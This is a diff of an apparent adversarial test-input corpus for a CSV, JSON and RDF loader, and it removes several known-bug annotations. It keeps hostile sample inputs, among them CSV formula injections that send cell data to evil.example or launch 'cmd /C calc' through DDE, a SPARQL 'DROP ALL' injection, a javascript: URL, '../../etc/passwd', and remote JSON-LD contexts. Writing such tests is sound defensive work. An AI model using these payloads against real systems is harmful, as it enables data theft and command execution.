@@ -72,12 +72,6 @@ def _deep_dict(depth: int) -> dict[str, object]:
 
 _CODE = ("the page-question reader takes the digits of pasted code 'x[3] = 7' as filter values and runs "
          "'impressions_30d = 3 AND clicks_30d = 7' instead of asking to clarify")
-_DEEP_JSONLD = ("deeply nested JSON-LD makes import_rdf raise RecursionError from json.loads in "
-                "storage/rdf_io.py _refuse_remote_context instead of RDFSyntaxError")
-_CR_CELL = ("a quoted CSV cell holding a bare carriage return is split into a new row: the loader refuses a valid "
-            "file with '<file>:3: 1 cells, the header has N' (the wrong line, a wrong reason)")
-_SURROGATE = ("a lone surrogate in a question escapes as UnicodeDecodeError from the Korean tokenizer "
-              "(qa/analyzer.py morphs) instead of InputError")
 
 
 # -- strings: questions, cells, answer fields ---------------------------------------------------------------
@@ -160,7 +154,7 @@ _CONTROL = [
     Text("hangul-jamo", "\u1112\u1169\u11bc\u1100\u1175\u11af\u1103\u1169\u11bc 회사"),
     Text("fullwidth", "ｎ＿ａ１ 에서 ３－ｈｏｐ 안에 거래소에 닿나요？"),
     Text("combining", "n_a1" + "\u0301" * 200 + " 에서 닿나요?"),
-    Text("lone-surrogate", "n_a1 \ud800 에서 닿나요?", bugs=(("ask", _SURROGATE), ("pages-cli", _SURROGATE))),
+    Text("lone-surrogate", "n_a1 \ud800 에서 닿나요?"),
     Text("private-use", "\ue000\uf8ff 노출 페이지"),
     Text("astral", "𝕟_𝕒𝟙 🦀🦀 에서 닿나요?"),
     Text("nonchar", "\uffff\ufffe 페이지"),
@@ -200,8 +194,8 @@ CELLS: list[Text] = [
     Text("csv-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
     Text("csv-formula-hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
     Text("csv-formula-tab", "\t=1+1"),
-    Text("csv-formula-cr", "\r=1+1", bugs=(("cell:onchain_nodes.csv", _CR_CELL),)),
-    Text("csv-cr-inside", "a\rb", bugs=(("cell", _CR_CELL),)),
+    Text("csv-formula-cr", "\r=1+1"),
+    Text("csv-cr-inside", "a\rb"),
     Text("csv-dde", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
     Text("csv-sparql", '"; DROP ALL; # } SERVICE <http://evil.example/> { ?s ?p ?o }'),
     Text("csv-ntriples-break", '> . <urn:x> <urn:y> "z" .\n<urn:a> <urn:b> <urn:c'),
@@ -246,9 +240,7 @@ CSV_FILES: list[Raw] = [
     Raw("csvf-pages-bad-url", b"url,impressions_30d\njavascript:alert(1),1\n../../etc/passwd,2\n", "pages.csv"),
     Raw("csvf-onchain-2-64", b"edge_id,rel,from,to,tx_hash,value,token,block_number,timestamp\n"
         b"e1,transfer,n_a1,n_h1,0xaa1,18446744073709551616,ETH,-1,NaN\n", "onchain_edges.csv"),
-    Raw("csvf-meta-deep", _deep_json(100_000), "meta.json",
-        bug="a deeply nested meta.json makes the loader raise RecursionError from json.loads "
-            "(ingest/datasets.py) instead of DatasetError"),
+    Raw("csvf-meta-deep", _deep_json(100_000), "meta.json"),
     Raw("csvf-meta-nan", b'{"as_of": NaN}', "meta.json"),
     Raw("csvf-meta-bad-utf8", b'{"as_of": "\xff"}', "meta.json"),
 ]
@@ -276,11 +268,9 @@ RDF_FILES: list[Raw] = [
     Raw("rdf-remote-context-nested", b'{"@context": {"p": {"@id": "urn:p", "@context": "http://evil.example/n"}},'
         b' "@id": "urn:a", "p": {"@id": "urn:b"}}', ".jsonld"),
     Raw("rdf-remote-context-import", b'{"@context": {"@version": 1.1, "@import": "http://evil.example/imp"},'
-        b' "@id": "urn:a", "urn:p": "x"}', ".jsonld",
-        bug="a JSON-LD @context with \"@import\": URL passes the remote-context check (storage/rdf_io.py "
-            "_refuse_remote_context) and rdflib looks the host up to fetch it"),
-    Raw("rdf-jsonld-deep", b"[" * 100_000 + b"]" * 100_000, ".jsonld", bug=_DEEP_JSONLD),
-    Raw("rdf-jsonld-deep-obj", _deep_json(100_000), ".jsonld", bug=_DEEP_JSONLD),
+        b' "@id": "urn:a", "urn:p": "x"}', ".jsonld"),
+    Raw("rdf-jsonld-deep", b"[" * 100_000 + b"]" * 100_000, ".jsonld"),
+    Raw("rdf-jsonld-deep-obj", _deep_json(100_000), ".jsonld"),
     Raw("rdf-jsonld-nan", b'{"@id": "urn:a", "urn:p": NaN, "urn:q": 1e309}', ".jsonld"),
     Raw("rdf-jsonld-bad-utf8", b'{"@id": "urn:\xff\xfe"}', ".jsonld"),
     Raw("rdf-jsonld-not-json", b"{'@id': 'urn:a'", ".jsonld"),
